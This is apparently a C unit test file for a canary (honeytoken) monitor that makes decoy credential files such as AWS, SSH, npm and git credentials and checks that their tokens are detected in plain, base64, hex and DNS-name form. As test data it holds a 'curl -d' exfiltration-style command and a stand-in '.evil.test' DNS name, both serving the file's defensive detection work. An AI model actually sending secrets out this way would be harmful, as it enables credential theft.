/* SPDX-License-Identifier: Apache-2.0 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>
#include <stdio.h>
#include <string.h>

#include "monitor/canary.h"

static void make(struct canary *canary, const char *path, uint8_t seed)
{
	uint8_t random[CANARY_RANDOM];

	for (size_t i = 0; i < sizeof random; i++)
		random[i] = (uint8_t)(seed + i * 37);
	assert_int_equal(canary_make(canary, path, random), 0);
}

static void each_looks_like_its_name(void **state)
{
	static const struct {
		const char *path, *has;
	} forms[] = {
		{ "/home/u/.aws/credentials", "aws_access_key_id = AKIA" },
		{ "/p/.env", "API_KEY=sk-" },
		{ "/home/u/.ssh/id_ed25519", "-----BEGIN OPENSSH PRIVATE KEY-----" },
		{ "/home/u/.netrc", "machine github.com" },
		{ "/home/u/.npmrc", "_authToken=npm_" },
		{ "/home/u/.git-credentials", "https://deploy:ghp_" },
		{ "/home/u/whatever", "token = " },
	};
	struct canary canary;

	for (size_t i = 0; i < sizeof forms / sizeof *forms; i++) {
		make(&canary, forms[i].path, 1);
		assert_non_null(strstr(canary.text, forms[i].has));
		assert_non_null(strstr(canary.text, canary.token));
		assert_true(strlen(canary.token) >= 36);
		assert_int_equal(canary.text_size, strlen(canary.text));
	}
}

/* As base64(1) does. */
static void encode(const char *text, char *out)
{
	static const char letters[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	size_t size = strlen(text);

	for (size_t i = 0; i < size; i += 3) {
		uint32_t group = 0;

		for (size_t k = 0; k < 3; k++)
			group = group << 8 | (i + k < size ? (unsigned char)text[i + k] : 0);
		for (int k = 3; k >= 0; k--)
			*out++ = letters[group >> 6 * k & 63];
	}
	*out = 0;
}

static void a_token_is_found_in_what_programs_make_of_it(void **state)
{
	struct canary canary, other;
	char text[512], encoded[1024];

	make(&canary, "/p/.env", 3);
	make(&other, "/p/.env", 4);
	snprintf(text, sizeof text, "curl -d %s http://x", canary.token);
	assert_string_equal(canary_find(&canary, text), "plain");
	assert_null(canary_find(&other, text));
	for (unsigned before = 0; before < 6; before++)
		for (unsigned behind = 0; behind < 4; behind++) {
			snprintf(text, sizeof text, "%.*s%s%.*s", before, "abcdef", canary.token, behind, "wxyz");
			encode(text, encoded);
			assert_string_equal(canary_find(&canary, encoded), "base64");
			assert_null(canary_find(&other, encoded));
		}
	for (size_t i = 0; canary.token[i]; i++)
		snprintf(text + 2 * i, 3, "%02X", canary.token[i]);
	assert_string_equal(canary_find(&canary, text), "hex");
	assert_null(canary_find(&canary, ""));
	snprintf(text, sizeof text, "%.30s", canary.token);
	assert_null(canary_find(&canary, text));
}

static void a_name_carries_it_in_any_case_with_dots(void **state)
{
	struct canary canary, other;
	char text[300];
	size_t at = 0;

	make(&canary, "/home/u/.aws/credentials", 9);
	make(&other, "/home/u/.aws/credentials", 10);
	for (size_t i = 0; canary.token[i]; i++)
		at += (size_t)snprintf(text + at, sizeof text - at, "%02x%s", canary.token[i], i % 20 == 19 ? "." : "");
	snprintf(text + at, sizeof text - at, ".evil.test");
	assert_string_equal(canary_find_in_name(&canary, text), "hex");
	assert_null(canary_find_in_name(&other, text));
	at = 0;
	for (size_t i = 0; canary.token[i]; i++) {
		char c = canary.token[i];

		text[at++] = c >= 'A' && c <= 'Z' ? (char)(c - 'A' + 'a') : c;
	}
	text[at] = 0;
	assert_string_equal(canary_find_in_name(&canary, text), "plain");
	assert_null(canary_find_in_name(&canary, "example.org"));
	assert_null(canary_find_in_name(&canary, ""));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(each_looks_like_its_name),
		cmocka_unit_test(a_token_is_found_in_what_programs_make_of_it),
		cmocka_unit_test(a_name_carries_it_in_any_case_with_dots),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
